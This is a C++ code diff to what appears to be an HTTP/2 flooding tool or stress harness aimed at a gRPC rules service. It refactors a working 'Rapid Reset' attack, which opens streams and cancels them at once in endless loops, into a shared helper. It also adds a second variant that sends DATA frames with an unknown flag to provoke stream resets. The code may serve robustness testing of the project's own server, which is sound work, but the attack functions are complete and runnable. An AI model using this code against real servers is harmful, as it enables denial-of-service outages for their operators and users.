@@ -102,6 +102,37 @@ std::string Repeat(std::string_view bytes, size_t times) {
   return repeated;
 }
 
+// Calls, each of them followed by this frame of the same stream.
+int SendCallsWith(const std::string& frame, const Attackers& attackers,
+                  const std::stop_token& stop) {
+  constexpr int kCalls = 1000;
+  const std::string begin = Preface() + Acknowledgement() +
+                            Frame(FrameType::kHeaders, kEndHeaders, 1,
+                                  PathFields("/arbiter.v1.RulesService/LegalMoves", true));
+  const std::string one_call = Frame(FrameType::kHeaders, kEndHeaders, 0, kSameCallFields) + frame;
+  const std::string calls = Repeat(one_call, kCalls);
+  // Where a frame has its stream, behind the beginning of the frame.
+  constexpr size_t kStreamAt = 5;
+  const size_t frame_at = one_call.size() - frame.size();
+  const Sender::Next next = [&](uint32_t* stream, std::string* bytes) {
+    if (*stream == 0) {
+      *bytes = begin;
+      *stream = 1;
+      return;
+    }
+    *bytes = calls;
+    for (size_t call = 0; call < bytes->size(); call += one_call.size()) {
+      *stream += 2;
+      for (const size_t at : {call, call + frame_at}) {
+        for (size_t byte = 0; byte < 4; ++byte) {
+          (*bytes)[at + kStreamAt + byte] = static_cast<char>(*stream >> (24 - 8 * byte));
+        }
+      }
+    }
+  };
+  return SendForever(attackers, next, stop);
+}
+
 // A field of a message, its tag and length in front (of at most 2^28 bytes).
 std::string LengthDelimited(char tag, const std::string& bytes) {
   std::string field(1, tag);
@@ -187,34 +218,12 @@ int SendEndlessHeaders(const Attackers& attackers, const std::stop_token& stop) 
 
 int ResetRapidly(const Attackers& attackers, const std::stop_token& stop) {
   constexpr std::string_view kCancel("\x00\x00\x00\x08", 4);
-  constexpr int kCalls = 1000;
-  const std::string begin = Preface() + Acknowledgement() +
-                            Frame(FrameType::kHeaders, kEndHeaders, 1,
-                                  PathFields("/arbiter.v1.RulesService/LegalMoves", true)) +
-                            Frame(FrameType::kRstStream, 0, 1, kCancel);
-  const std::string one_call = Frame(FrameType::kHeaders, kEndHeaders, 0, kSameCallFields) +
-                               Frame(FrameType::kRstStream, 0, 0, kCancel);
-  const std::string calls = Repeat(one_call, kCalls);
-  // Where a frame has its stream, behind the beginning of the frame.
-  constexpr size_t kStreamAt = 5;
-  const size_t reset_at = one_call.size() - Frame(FrameType::kRstStream, 0, 0, kCancel).size();
-  const Sender::Next next = [&](uint32_t* stream, std::string* bytes) {
-    if (*stream == 0) {
-      *bytes = begin;
-      *stream = 1;
-      return;
-    }
-    *bytes = calls;
-    for (size_t call = 0; call < bytes->size(); call += one_call.size()) {
-      *stream += 2;
-      for (const size_t frame : {call, call + reset_at}) {
-        for (size_t byte = 0; byte < 4; ++byte) {
-          (*bytes)[frame + kStreamAt + byte] = static_cast<char>(*stream >> (24 - 8 * byte));
-        }
-      }
-    }
-  };
-  return SendForever(attackers, next, stop);
+  return SendCallsWith(Frame(FrameType::kRstStream, 0, 0, kCancel), attackers, stop);
+}
+
+int ProvokeResets(const Attackers& attackers, const std::stop_token& stop) {
+  constexpr uint8_t kUnknownFlag = 0x40;
+  return SendCallsWith(Frame(FrameType::kData, kUnknownFlag, 0, ""), attackers, stop);
 }
 
 int FloodFrames(const Attackers& attackers, const std::string& frames,
